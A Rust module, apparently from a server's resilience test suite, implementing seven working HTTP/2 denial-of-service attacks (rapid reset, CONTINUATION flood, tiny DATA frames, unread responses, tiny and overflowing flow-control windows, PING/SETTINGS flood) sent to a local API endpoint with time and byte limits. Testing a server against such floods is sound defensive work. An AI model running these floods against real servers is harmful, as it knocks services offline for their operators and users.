//! What HTTP/2 offers to somebody with bad intentions, frame by frame.

use std::io::{Read, Write};
use std::time::{Duration, Instant};

use super::Stream;

/// One attack on one connection.
pub(super) struct Attack {
    pub(super) name: &'static str,
    what: fn(&mut Frames<'_>) -> Sent,
}

/// Ends with the first error: the server has hung up, or does not read.
type Sent = std::io::Result<()>;

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "rapid reset", what: rapid_reset },
    Attack { name: "a flood of CONTINUATION", what: continuations },
    Attack { name: "tiny DATA frames", what: tiny_data },
    Attack { name: "answers that are never read", what: unread },
    Attack { name: "windows of one byte", what: small_windows },
    Attack { name: "windows that overflow", what: large_windows },
    Attack { name: "a flood of PING and SETTINGS", what: pings },
];

/// No attack lasts longer on one connection, nor sends more.
const LONGEST: Duration = Duration::from_secs(3);
const MOST: usize = 32 << 20;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PADDED: u8 = 8;
/// The setting of how much of an answer may come before it is asked for.
const INITIAL_WINDOW_SIZE: u16 = 4;
/// The reason CANCEL.
const CANCEL: [u8; 4] = 8u32.to_be_bytes();

const LIST: &str = "/api/v1/namespaces/hostile/configmaps";

impl Attack {
    /// How many bytes were sent.
    pub(super) fn run(&self, stream: &mut Stream, token: &str) -> usize {
        let mut frames = Frames { stream, token, out: Vec::new(), sent: 0, begun: Instant::now() };
        let _ended = frames.begin().and_then(|()| (self.what)(&mut frames));
        frames.sent
    }
}

/// Thousands of requests, each given up as soon as it is asked.
fn rapid_reset(frames: &mut Frames<'_>) -> Sent {
    for stream in (1..).step_by(2) {
        frames.request("GET", LIST, stream, END_STREAM);
        frames.frame(RST_STREAM, 0, stream, &CANCEL);
        frames.flush()?;
    }
    Ok(())
}

/// Headers that never end.
fn continuations(frames: &mut Frames<'_>) -> Sent {
    let block = frames.block("GET", LIST);
    frames.frame(HEADERS, END_STREAM, 1, &block);
    let mut more = Vec::new();
    for n in 0..200 {
        literal(&mut more, &format!("x-{n}"), &"x".repeat(60));
    }
    loop {
        frames.frame(CONTINUATION, 0, 1, &more);
        frames.flush()?;
    }
}

/// A body a byte at a time, with as much padding as there may be, and with frames of nothing at all.
fn tiny_data(frames: &mut Frames<'_>) -> Sent {
    for stream in (1..).step_by(2) {
        frames.request("POST", LIST, stream, 0);
        let padded = [&[200, b' '][..], &[0; 200]].concat();
        for n in 0..10_000 {
            match n % 50 {
                0 => frames.frame(DATA, PADDED, stream, &padded),
                n if n % 2 == 0 => frames.frame(DATA, 0, stream, b" "),
                _ => frames.frame(DATA, 0, stream, b""),
            }
            if frames.out.len() > 8 << 10 {
                frames.flush()?;
            }
        }
        frames.frame(DATA, END_STREAM, stream, b"");
        frames.flush()?;
    }
    Ok(())
}

/// Asks for large answers, allows all of them, and reads nothing.
fn unread(frames: &mut Frames<'_>) -> Sent {
    frames.set(INITIAL_WINDOW_SIZE, i32::MAX.unsigned_abs());
    frames.widen(0, 1 << 30);
    for stream in (1..200).step_by(2) {
        frames.request("GET", "/openapi/v2", stream, END_STREAM);
        frames.flush()?;
    }
    frames.wait();
    Ok(())
}

/// Asks for large answers, and takes them a byte at a time.
fn small_windows(frames: &mut Frames<'_>) -> Sent {
    frames.set(INITIAL_WINDOW_SIZE, 0);
    let streams = (1..200).step_by(2);
    for stream in streams.clone() {
        frames.request("GET", "/openapi/v2", stream, END_STREAM);
    }
    loop {
        for stream in streams.clone() {
            frames.widen(stream, 1);
        }
        frames.flush()?;
        frames.read();
    }
}

/// Makes the windows of others as large as they can be, then larger, again and again.
fn large_windows(frames: &mut Frames<'_>) -> Sent {
    for stream in (1..).step_by(2) {
        frames.request("GET", LIST, stream, END_STREAM);
        frames.widen(stream, i32::MAX.unsigned_abs());
        frames.widen(stream, i32::MAX.unsigned_abs());
        frames.set(INITIAL_WINDOW_SIZE, if stream % 4 == 1 { 0 } else { i32::MAX.unsigned_abs() });
        frames.flush()?;
        frames.read();
    }
    Ok(())
}

/// What has to be answered and costs nothing to ask, from somebody who does not read the answers.
fn pings(frames: &mut Frames<'_>) -> Sent {
    loop {
        for _ in 0..100 {
            frames.frame(PING, 0, 0, &[0; 8]);
            frames.set(INITIAL_WINDOW_SIZE, 1 << 16);
        }
        frames.flush()?;
    }
}

/// Writes frames.
struct Frames<'a> {
    stream: &'a mut Stream,
    token: &'a str,
    out: Vec<u8>,
    sent: usize,
    begun: Instant,
}

impl Frames<'_> {
    fn begin(&mut self) -> Sent {
        // What there is to read is there, or it is not waited for.
        self.stream.sock.set_read_timeout(Some(Duration::from_millis(1)))?;
        self.out.extend_from_slice(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        self.frame(SETTINGS, 0, 0, &[]);
        self.flush()
    }

    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
        self.out.extend_from_slice(&length[1..]);
        self.out.extend_from_slice(&[kind, flags]);
        self.out.extend_from_slice(&stream.to_be_bytes());
        self.out.extend_from_slice(payload);
    }

    fn request(&mut self, method: &str, path: &str, stream: u32, flags: u8) {
        let block = self.block(method, path);
        self.frame(HEADERS, END_HEADERS | flags, stream, &block);
    }

    fn block(&self, method: &str, path: &str) -> Vec<u8> {
        let token = format!("Bearer {}", self.token);
        let mut block = Vec::new();
        for (name, value) in [
            (":method", method),
            (":scheme", "https"),
            (":path", path),
            (":authority", "localhost"),
            ("authorization", &token),
            ("content-type", "application/json"),
        ] {
            literal(&mut block, name, value);
        }
        block
    }

    fn set(&mut self, setting: u16, value: u32) {
        let payload = [&setting.to_be_bytes()[..], &value.to_be_bytes()].concat();
        self.frame(SETTINGS, 0, 0, &payload);
    }

    fn widen(&mut self, stream: u32, by: u32) {
        self.frame(WINDOW_UPDATE, 0, stream, &by.to_be_bytes());
    }

    fn flush(&mut self) -> Sent {
        if self.begun.elapsed() > LONGEST || self.sent > MOST {
            return Err(std::io::ErrorKind::TimedOut.into());
        }
        self.stream.write_all(&self.out)?;
        self.sent += self.out.len();
        self.out.clear();
        Ok(())
    }

    /// Reads a little, so that the server can go on.
    fn read(&mut self) {
        let _nothing = self.stream.read(&mut [0; 16 << 10]);
    }

    fn wait(&self) {
        std::thread::sleep(LONGEST.saturating_sub(self.begun.elapsed()));
    }
}

/// A header that no table has, nor shall have.
fn literal(block: &mut Vec<u8>, name: &str, value: &str) {
    block.push(0);
    for text in [name, value] {
        // Seven bits, of which the last number would say that more follow.
        block.push(u8::try_from(text.len()).ok().filter(|length| *length < 127).expect("it is short"));
        block.extend_from_slice(text.as_bytes());
    }
}
